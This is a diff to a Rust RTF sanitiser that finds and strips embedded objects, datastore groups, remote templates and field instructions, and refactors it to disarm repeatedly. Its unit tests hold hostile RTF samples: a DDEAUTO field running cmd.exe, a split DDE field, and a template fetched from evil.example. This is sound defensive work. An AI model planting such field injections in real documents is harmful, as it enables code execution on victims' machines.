@@ -6,7 +6,7 @@
 //! skips raw bytes, escaped braces do not open groups, and a file that ends
 //! with groups still open closes them at the end.
 
-use crate::disarm::Item;
+use crate::formats::common::{Disarmed, FormatError, Inspection, Item};
 use crate::vocab::FindingKind;
 
 /// Groups that hold an embedded object or hidden binary data.
@@ -14,8 +14,9 @@ const OBJECT_WORDS: [&str; 4] = ["object", "objdata", "datastore", "objupdate"];
 
 /// What one pass over the file found: the findings, and the groups to cut.
 #[derive(Debug, Default)]
-pub(crate) struct Plan {
-    pub(crate) items: Vec<Item>,
+struct Plan {
+    /// What inspection reports: the items, a finding each.
+    found: Inspection,
     /// Sorted, not overlapping.
     cuts: Vec<Cut>,
 }
@@ -46,8 +47,59 @@ struct Group {
     result: Option<(usize, usize)>,
 }
 
+/// An RTF file scanned: what is active, and the groups to cut.
+#[derive(Debug)]
+pub(crate) struct Analysis<'a> {
+    rtf: &'a [u8],
+    plan: Plan,
+}
+
 /// Scans an RTF file.
-pub(crate) fn analyze(rtf: &[u8]) -> Result<Plan, String> {
+pub(crate) fn analyze(rtf: &[u8]) -> Result<Analysis<'_>, FormatError> {
+    Ok(Analysis {
+        rtf,
+        plan: plan(rtf)?,
+    })
+}
+
+impl Analysis<'_> {
+    /// What inspection reports.
+    pub(crate) fn found(&self) -> &Inspection {
+        &self.plan.found
+    }
+
+    /// The file without its active groups. An object's kept `\result` may
+    /// hold another object: cut again until nothing is left, a few times
+    /// at most.
+    pub(crate) fn disarm(self) -> Result<Disarmed, FormatError> {
+        let (mut out, mut removed) = cut(self.rtf, self.plan);
+        for _ in 1..8 {
+            let plan = plan(&out)?;
+            if plan.found.items.is_empty() {
+                break;
+            }
+            let (next, log) = cut(&out, plan);
+            out = next;
+            removed.extend(log);
+        }
+        if removed.is_empty() {
+            return Err(FormatError::Unsupported(
+                "nothing in this RTF file could be cut out".into(),
+            ));
+        }
+        if !plan(&out)?.found.items.is_empty() {
+            return Err(FormatError::Unsupported(
+                "objects nested too deep to cut out".into(),
+            ));
+        }
+        Ok(Disarmed {
+            bytes: out,
+            removed,
+        })
+    }
+}
+
+fn plan(rtf: &[u8]) -> Result<Plan, String> {
     let mut plan = Plan::default();
     let mut stack: Vec<Group> = Vec::new();
     let mut i = 0;
@@ -189,7 +241,7 @@ fn close(mut g: Group, end: usize, stack: &mut [Group], plan: &mut Plan) {
         if !g.class.is_empty() {
             item.detail = format!("{} (class {})", item.detail, g.class);
         }
-        plan.items.push(item);
+        plan.found.items.push(item);
         let keep = if g.destination.as_deref() == Some("object") {
             g.result
         } else {
@@ -272,7 +324,7 @@ fn control(rtf: &[u8], i: usize) -> (String, Option<i64>, usize) {
 }
 
 /// The file without the groups the plan cuts.
-pub(crate) fn disarm(rtf: &[u8], plan: Plan) -> (Vec<u8>, Vec<String>) {
+fn cut(rtf: &[u8], plan: Plan) -> (Vec<u8>, Vec<String>) {
     let mut out = Vec::with_capacity(rtf.len());
     let mut at = 0;
     for cut in &plan.cuts {
@@ -287,7 +339,7 @@ pub(crate) fn disarm(rtf: &[u8], plan: Plan) -> (Vec<u8>, Vec<String>) {
         at = cut.end;
     }
     out.extend_from_slice(&rtf[at.min(rtf.len())..]);
-    let log = plan.items.into_iter().map(|i| i.detail).collect();
+    let log = plan.found.items.into_iter().map(|i| i.detail).collect();
     (out, log)
 }
 
@@ -295,15 +347,15 @@ pub(crate) fn disarm(rtf: &[u8], plan: Plan) -> (Vec<u8>, Vec<String>) {
 mod tests {
     use super::*;
 
-    fn cut(rtf: &str) -> (String, Vec<String>) {
-        let plan = analyze(rtf.as_bytes()).unwrap();
-        let (out, log) = disarm(rtf.as_bytes(), plan);
+    fn cut_once(rtf: &str) -> (String, Vec<String>) {
+        let plan = plan(rtf.as_bytes()).unwrap();
+        let (out, log) = cut(rtf.as_bytes(), plan);
         (String::from_utf8(out).unwrap(), log)
     }
 
     #[test]
     fn objects_go_text_stays() {
-        let (out, log) = cut(
+        let (out, log) = cut_once(
             r"{\rtf1{\fonttbl{\f0 Arial;}}Hello {\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}{\result{\pict ab}}} world\par}",
         );
         assert_eq!(
@@ -311,12 +363,12 @@ mod tests {
             r"{\rtf1{\fonttbl{\f0 Arial;}}Hello {{\pict ab}} world\par}"
         );
         assert_eq!(log, ["RTF \\object (class Package)"]);
-        assert!(analyze(out.as_bytes()).unwrap().items.is_empty());
+        assert!(plan(out.as_bytes()).unwrap().found.items.is_empty());
     }
 
     #[test]
     fn hidden_destinations_and_fields() {
-        let (out, log) = cut(
+        let (out, log) = cut_once(
             r#"{\rtf1{\*\datastore 0105}{\*\template http://evil.example/t.dot}{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"}{\fldrslt shown}} {\field{\*\fldinst PAGE}{\fldrslt 1}}}"#,
         );
         assert_eq!(
@@ -328,7 +380,7 @@ mod tests {
 
     #[test]
     fn field_instructions_in_nested_groups() {
-        let (out, log) = cut(
+        let (out, log) = cut_once(
             r#"{\rtf1{\field{\*\fldinst {\rtlch\fcs1 DDE}{\rtlch AUTO c:\\cmd.exe}}{\fldrslt x}}}"#,
         );
         assert_eq!(out, r"{\rtf1{\field{}{\fldrslt x}}}");
@@ -338,25 +390,25 @@ mod tests {
     #[test]
     fn bin_data_and_escaped_braces_do_not_confuse_groups() {
         // The raw bytes after \bin hold a brace and a fake \object.
-        let (out, log) = cut("{\\rtf1 a\\{ {\\pict\\bin9 }\\object}b}");
+        let (out, log) = cut_once("{\\rtf1 a\\{ {\\pict\\bin9 }\\object}b}");
         assert_eq!(out, "{\\rtf1 a\\{ {\\pict\\bin9 }\\object}b}");
         assert!(log.is_empty());
         // Left open at the end: closed there, and cut.
-        let (out, log) = cut("{\\rtf1 a{\\object\\objdata 01");
+        let (out, log) = cut_once("{\\rtf1 a{\\object\\objdata 01");
         assert_eq!(out, "{\\rtf1 a{}");
         assert_eq!(log.len(), 1);
     }
 
     #[test]
     fn a_cut_never_joins_its_neighbours_into_a_control_word() {
-        let (out, log) = cut(r"{\rtf1 \ob{\*\datastore 01}ject x}");
+        let (out, log) = cut_once(r"{\rtf1 \ob{\*\datastore 01}ject x}");
         assert_eq!(log.len(), 1);
         assert_eq!(out, r"{\rtf1 \ob{}ject x}");
-        assert!(analyze(out.as_bytes()).unwrap().items.is_empty());
+        assert!(plan(out.as_bytes()).unwrap().found.items.is_empty());
     }
 
     #[test]
     fn object_in_the_root_group_cannot_be_cut() {
-        assert!(analyze(b"{\\rtf1 \\objdata 0105}").is_err());
+        assert!(plan(b"{\\rtf1 \\objdata 0105}").is_err());
     }
 }
